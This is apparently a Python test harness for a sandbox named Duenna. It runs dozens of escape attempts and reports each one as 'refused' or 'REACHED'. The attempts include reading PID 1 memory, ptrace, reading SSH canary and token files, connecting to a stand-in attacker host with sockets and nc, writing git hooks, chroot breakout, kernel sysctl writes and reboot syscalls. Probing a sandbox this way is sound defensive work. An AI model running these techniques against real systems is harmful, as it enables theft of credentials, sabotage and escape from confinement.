#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The command of a hostile run: tries to touch what is outside of the sandbox.

usage: hostile.py HOME HOST_SOCKET ABSTRACT BYSTANDER EVIL < FILE

Prints a line a try: its name, "refused" or "REACHED", and how.  A try returns
something true when it got where it must not get.
"""
import ctypes
import errno
import os
import resource
import signal
import socket
import struct
import subprocess
import sys

HOME, HOST_SOCKET, ABSTRACT, BYSTANDER, EVIL = sys.argv[1:6]
BYSTANDER = int(BYSTANDER)
LIBC = ctypes.CDLL(None, use_errno=True)
TRIES = []
NUMBERS = {  # system calls without a function in Python: x86_64, aarch64
    'process_vm_readv': (310, 270), 'pidfd_getfd': (438, 438),
    'pidfd_open': (434, 434), 'add_key': (248, 217),
    'request_key': (249, 218), 'keyctl': (250, 219),
    'io_uring_setup': (425, 425), 'open_by_handle_at': (304, 265),
    'init_module': (175, 105), 'kexec_load': (246, 104), 'reboot': (169, 142),
    'settimeofday': (164, 170), 'acct': (163, 89), 'swapon': (167, 224)}


def attempt(f):
    TRIES.append(f)
    return f


def call(name, *args):
    """The result of a system call; an error is an OSError."""
    number = NUMBERS[name][os.uname().machine != 'x86_64']
    rc = LIBC.syscall(ctypes.c_long(number),
                      *[a if isinstance(a, (ctypes._Pointer, ctypes.Array))
                        else ctypes.c_long(a) for a in args])
    if rc == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return rc


def read(path):
    with open(path, 'rb') as f:
        return f.read(4096)


def first(*tries):
    """The first of these that does not fail; else the last one's error."""
    error = None
    for f in tries:
        try:
            got = f()
            if got:
                return got
        except OSError as e:
            error = e
    if error:
        raise error
    return None


def nested(line, flags='-Urm'):
    """What a shell with every capability of a user namespace below prints."""
    done = subprocess.run(['unshare', flags, 'sh', '-c', line], text=True,
                          capture_output=True, timeout=20, check=False)
    return done.stdout.strip()


def spoken(sock, where):
    """Does somebody of the host's answer at `where`?"""
    with sock:
        sock.settimeout(3)
        sock.connect(where)
        sock.sendall(b'GET /_whoami HTTP/1.1\r\nHost: evil.test\r\n\r\n')
        got = sock.recv(4096)
        return got if got and b'Duenna-Reason' not in got else None


def tcp(host, port):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    return spoken(socket.socket(family), (host, port))


@attempt
def descriptors_that_were_left():
    return [fd for fd in os.listdir('/proc/self/fd') if int(fd) > 3]


# ---------------------------------------------------------- other processes

@attempt
def first_process_by_proc():
    return first(*[lambda n=n: read('/proc/1/' + n) for n in
                   ('environ', 'mem', 'maps', 'auxv', 'stack', 'syscall')])


@attempt
def first_process_arguments():
    return read('/proc/1/cmdline').strip(b'\0 \n')


@attempt
def first_process_links():
    return first(*[lambda n=n: os.readlink('/proc/1/' + n) for n in
                   ('root', 'cwd', 'exe', 'fd/0', 'ns/net', 'ns/mnt')])


@attempt
def first_process_root():
    return os.listdir('/proc/1/root/')


@attempt
def first_process_ptrace():
    return LIBC.ptrace(16, 1, 0, 0) == 0 or LIBC.ptrace(0x4206, 1, 0, 0) == 0


@attempt
def first_process_memory():
    word = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
    remote = (ctypes.c_void_p * 2)(0x400000, 8)
    return call('process_vm_readv', 1, local, 1, remote, 1, 0)


@attempt
def first_process_descriptors():
    return call('pidfd_getfd', call('pidfd_open', 1, 0), 0, 0) >= 0


@attempt
def first_process_signals():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM,
                   signal.SIGABRT, signal.SIGSEGV):
        os.kill(1, number)
    with open('/proc/1/stat', encoding='ascii') as f:
        return f.read().rpartition(')')[2].split()[0] in 'TtZX'


@attempt
def first_process_limits():
    def lower(what):
        old = resource.prlimit(1, what)
        resource.prlimit(1, what, (0, old[1]))
        return resource.prlimit(1, what) != old
    return first(*[lambda w=w: lower(w) for w in
                   (resource.RLIMIT_AS, resource.RLIMIT_NOFILE,
                    resource.RLIMIT_FSIZE, resource.RLIMIT_CPU)])


@attempt
def bystander_by_its_number():
    os.kill(BYSTANDER, 0)
    return BYSTANDER


@attempt
def processes_of_others():
    mine = {os.getpid(), os.getppid(), 1}
    return {int(p) for p in os.listdir('/proc') if p.isdigit()} - mine


@attempt
def namespaces_of_others():
    return first(*[lambda n=n: LIBC.setns(
        os.open('/proc/1/ns/' + n, os.O_RDONLY), 0) == 0
        for n in ('user', 'mnt', 'net', 'pid', 'cgroup', 'ipc', 'uts')])


@attempt
def cores_for_the_host():
    """1 is the sign against a piped core; 0 is not."""
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    hard = resource.getrlimit(resource.RLIMIT_CORE)
    resource.prlimit(0, resource.RLIMIT_CORE, (0, hard[1]))
    return resource.getrlimit(resource.RLIMIT_CORE) != hard


# ----------------------------------------------------------------- sockets

@attempt
def socket_of_the_host():
    return spoken(socket.socket(socket.AF_UNIX), HOST_SOCKET)


@attempt
def socket_of_the_host_by_another_root():
    return spoken(socket.socket(socket.AF_UNIX),
                  '/proc/1/root' + HOST_SOCKET)


@attempt
def abstract_socket_of_the_host():
    return spoken(socket.socket(socket.AF_UNIX), '\0' + ABSTRACT)


@attempt
def abstract_socket_from_a_namespace_below():
    return nested('python3 -c "import socket;socket.socket(1).connect('
                  '\'\\0%s\');print(1)"' % ABSTRACT, '-Urn')


@attempt
def families():
    def make(family):
        for kind in (1, 2, 3, 5):
            for more in (0, 1 << 32):
                try:
                    socket.socket(family + more, kind).close()
                    return family
                except (OSError, OverflowError):
                    continue
        return None
    return [f for f in range(48) if f not in (1, 2, 10, 16) and make(f)]


@attempt
def netlink():
    for protocol in range(1, 23):
        try:
            socket.socket(16, 3, protocol).close()
            return protocol
        except OSError:
            continue
    return None


@attempt
def raw_packets():
    return first(*[lambda p=p: socket.socket(2, 3, p) for p in (1, 132, 255)])


@attempt
def io_uring():
    return call('io_uring_setup', 1, ctypes.create_string_buffer(120)) >= 0


# ----------------------------------------------------------------- network

@attempt
def attacker_by_address():
    return first(*[lambda p=p: tcp(EVIL, p) for p in (80, 443, 22, 8080, 853)])


@attempt
def attacker_over_ipv6():
    return first(lambda: tcp('::ffff:' + EVIL, 80),
                 lambda: tcp('2001:db8::66', 80))


@attempt
def services_of_the_host():
    """In the bed the host listens at each of these."""
    return first(*[lambda a=a: tcp(a, 80) for a in (
        '127.0.0.1', '127.0.0.53', '::1', '::ffff:127.0.0.1', '0.0.0.0',
        '::', '169.254.169.254', '10.0.0.1', 'fe80::1%lo', '64:ff9b::7f00:1')])


@attempt
def listeners_of_duenna():
    with open('/proc/net/tcp', encoding='ascii') as f:
        ports = {int(row.split()[1].split(':')[1], 16)
                 for row in list(f)[1:] if row.split()[3] == '0A'}
    return first(*[lambda a=a, p=p: tcp(a, p) for p in ports
                   for a in ('127.0.0.1', '::1', '198.18.0.1')])


@attempt
def datagrams():
    s = socket.socket(2, 2)
    s.settimeout(1)
    s.connect((EVIL, 443))
    s.send(b'out')
    return s.recv(100)


@attempt
def a_link_below():
    """All that a namespace below can make leads nowhere."""
    return nested('ip link set lo up; ip link add d0 type dummy; ip addr add '
                  '203.0.113.9/24 dev d0; ip link set d0 up; ip route add '
                  'default via 203.0.113.1; timeout 2 sh -c "printf '
                  '\'GET / HTTP/1.0\\r\\n\\r\\n\' | nc -w1 %s 80"' % EVIL,
                  '-Urn')


@attempt
def rules_of_the_namespace():
    return nested('nft flush ruleset && echo flushed', '-Ur')


# ------------------------------------------------------------------- files

@attempt
def private_files():
    return first(*[lambda p=p: read(HOME + p) for p in (
        '/.ssh/canary', '/.config/duenna/token',
        '/.config/duenna/config.yaml', '/../../../root/.bashrc')])


@attempt
def private_files_by_links():
    os.symlink(HOME + '/.ssh/canary', 'link')
    os.symlink('../.ssh', 'folder')
    return first(lambda: read('link'), lambda: read('folder/canary'),
                 lambda: read('/proc/self/cwd/../.ssh/canary'),
                 lambda: os.link(HOME + '/.ssh/canary', 'hard') or 1)


@attempt
def private_files_by_handle():
    """Handles of inodes 1 to 200 below the project's file system."""
    mount = os.open('.', os.O_RDONLY)
    for inode in range(1, 200):
        handle = ctypes.create_string_buffer(
            struct.pack('=IiIII', 12, 1, inode, 0, 0))
        if call('open_by_handle_at', mount, handle, 0) >= 0:
            return inode
    return None


@attempt
def standard_input_for_writing():
    fd = os.open('/proc/self/fd/0', os.O_RDWR)
    return os.write(fd, b'REACHED')


@attempt
def standard_input_truncated():
    return os.truncate('/proc/self/fd/0', 0) is None


@attempt
def standard_input_by_a_namespace_below():
    return nested('mount --bind /proc/self/fd/0 /tmp && mount -o '
                  'remount,bind,rw /tmp && echo x > /tmp && echo reached')


@attempt
def hooks():
    def write(path):
        with open(path, 'w', encoding='ascii') as f:
            f.write('#!/bin/sh\n')
        return path
    return first(lambda: write('.git/hooks/pre-commit'),
                 lambda: os.rename('.git/hooks', '.git/h') or 1,
                 lambda: os.rmdir('.git/hooks') or 1,
                 lambda: os.rename('.git', 'g') or 1)


@attempt
def hooks_by_a_namespace_below():
    return nested(
        'umount .git/hooks; umount .git; mount -o remount,bind,rw .git/hooks; '
        'mount -t tmpfs t /tmp && mkdir /tmp/u /tmp/w && mount -t overlay o '
        '-o lowerdir=.git/hooks,upperdir=/tmp/u,workdir=/tmp/w .git/hooks; '
        'umount -l .git/hooks; mv .git/hooks .git/h; touch .git/hooks/x; '
        'cd ..; mv project p; ls project/.git/hooks') and \
        os.path.exists('.git/hooks/x')


@attempt
def policy():
    return first(lambda: open('duenna.yaml', 'a', encoding='ascii'),
                 lambda: os.unlink('duenna.yaml') or 1,
                 lambda: os.rename('duenna.yaml', 'd') or 1,
                 lambda: os.rename('../project', '../p') or 1)


@attempt
def mounts_of_the_view():
    return nested('for p in /usr /etc /sys / /proc; do umount -l $p; mount -o '
                  'remount,bind,rw $p; done >/dev/null 2>&1; touch /usr/x && '
                  'echo usr; test -e %s/.ssh/canary && echo home' % HOME)


@attempt
def a_root_above():
    return nested('mkdir -p /tmp/c && cd / && python3 -c "\n'
                  'import os\n'
                  'd=os.open(\'/\',os.O_RDONLY)\n'
                  'os.chroot(\'/tmp/c\')\n'
                  'os.fchdir(d)\n'
                  'for i in range(99): os.chdir(\'..\')\n'
                  'os.chroot(\'.\')\n'
                  'os.path.exists(\'%s/.ssh/canary\') and print(1)"' % HOME)


@attempt
def settings_of_the_kernel():
    def write(path):
        with open(path, 'w', encoding='ascii') as f:
            f.write('1')
        return path
    return first(*[lambda p=p: write(p) for p in (
        '/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname',
        '/proc/sys/net/ipv4/ip_forward', '/proc/sysrq-trigger',
        '/proc/sys/vm/drop_caches', '/sys/power/state',
        '/sys/kernel/uevent_helper', '/proc/1/oom_score_adj')])


@attempt
def groups_of_processes():
    return nested('mkdir /tmp/cg && for t in cgroup2 cgroup; do mount -t $t '
                  'none /tmp/cg && for f in cgroup.kill cgroup.freeze '
                  'cgroup.procs; do (echo 1 > /tmp/cg/$f) && echo $f; done; '
                  'done', '-UrmC')


@attempt
def devices():
    def made():
        os.mknod('/tmp/vda', 0o60600, os.makedev(254, 0))
        return read('/tmp/vda')
    return first(made, *[lambda d=d: read('/dev/' + d) for d in
                         ('mem', 'kmsg', 'vda', 'sda', 'port', 'kvm', 'fuse',
                          'net/tun', 'vsock', 'vhost-vsock', 'tty0', 'vcs')])


@attempt
def typing():
    master, slave = os.openpty()
    try:
        for request in (0x5412, 0x541c, 0x5412 | 1 << 32):
            rc = LIBC.ioctl(slave, ctypes.c_ulong(request), b'x')
            if rc == 0:
                return hex(request)
    finally:
        os.close(master)
        os.close(slave)
    return None


# -------------------------------------------------------------------- power

@attempt
def keys():
    return first(lambda: call('keyctl', 0, -4, 1),
                 lambda: call('add_key', 0, 0, 0, 0, -4),
                 lambda: call('request_key', 0, 0, 0, 0))


@attempt
def calls_of_root():
    nothing = ctypes.create_string_buffer(64)
    return first(*[lambda n=n: call(n, nothing, 0, 0, 0) >= 0 for n in
                   ('init_module', 'kexec_load', 'settimeofday', 'acct',
                    'swapon')],
                 lambda: call('reboot', 1, 2, 3, 0) >= 0,
                 lambda: socket.sethostname('hostile') or 1)


@attempt
def setuid_programs():
    def run(*line):
        done = subprocess.run(line, capture_output=True, text=True,
                              stdin=subprocess.DEVNULL, timeout=10,
                              check=False)
        return done.stdout.strip() == '0'
    return first(lambda: run('su', '-c', 'id -u'),
                 lambda: run('sudo', '-n', 'id', '-u'),
                 lambda: run('pkexec', 'id', '-u'))


@attempt
def capabilities():
    with open('/proc/self/status', encoding='ascii') as f:
        rows = dict(row.split(':\t') for row in f.read().split('\n') if row)
    sets = [rows[k].strip('0') for k in
            ('CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb')]
    return any(sets) or rows['NoNewPrivs'] != '1' or rows['Seccomp'] != '2'


@attempt
def state_of_duenna():
    return first(*[lambda p=p: os.listdir(HOME + p) for p in (
        '/.local/state/duenna', '/.config/duenna', '/.ssh')])


@attempt
def secrets_in_the_environment():
    return [n for n in os.environ if 'SECRET' in n or n.startswith('LD_') or
            n in ('OPENSSL_CONF', 'SSH_AUTH_SOCK', 'https_proxy')]


def main():
    for f in TRIES:
        try:
            got = f()
            how = repr(got)[:100] if got else ''
        except OSError as e:
            got, how = None, errno.errorcode.get(e.errno, str(e))
        except subprocess.TimeoutExpired:
            got, how = None, 'too slow'
        print('%s\t%s\t%s' % (f.__name__, 'REACHED' if got else 'refused',
                              how), flush=True)


if __name__ == '__main__':
    main()
